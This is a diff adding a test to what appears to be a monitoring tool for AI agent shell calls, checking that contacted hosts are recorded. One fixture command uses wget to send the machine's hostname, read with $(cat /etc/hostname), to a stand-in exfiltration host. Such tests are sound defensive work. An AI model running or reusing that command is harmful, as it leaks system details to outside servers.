@@ -25,6 +25,7 @@ import {
 import { countIn, type WindowBucket } from "../../../src/cedar/session-windows.js";
 import { isHookbusError } from "../../../src/foundation/errors.js";
 import { toolVocabulary } from "../../../src/vocabulary/index.js";
+import { callFacts, loadCallFacts } from "../../../src/policy/call-facts.js";
 
 const T0 = Date.UTC(2026, 0, 1);
 const bash = toolVocabulary.classify("Bash");
@@ -67,6 +68,28 @@ describe("session facts learnt from the merged decision", () => {
     expect(facts.recipientDomains).toEqual(["corp.example", domainToASCII("évil.test")]);
     expect(facts.approvalsPending).toBe(1);
     expect(facts.toolCalls).toBe(2);
+  });
+
+  it("learn the hosts a shell command contacts, as the call's own facts name them", async () => {
+    await loadCallFacts();
+    const shell = (command: string) => ({ toolName: "Bash", params: { command } });
+    let facts = emptySessionFacts();
+    for (const command of [
+      "curl -s https://Paste.Example/x",
+      "git clone git@code.example:team/repo.git && wget -q http://$(cat /etc/hostname).exfil.test/",
+    ]) {
+      const event = shell(command);
+      const call = decidedCallOf({
+        hook: "before_tool_call",
+        event,
+        decision: { outcome: "allow" },
+        at: T0,
+        vocabulary: toolVocabulary,
+        facts: () => callFacts("before_tool_call", event, {}),
+      });
+      facts = afterDecision(facts, call!);
+    }
+    expect(facts.hosts).toEqual(["paste.example", "code.example", "$(…).exfil.test"]);
   });
 
   it("settle approvals: pending goes down (never below 0), a person's denial is counted", () => {
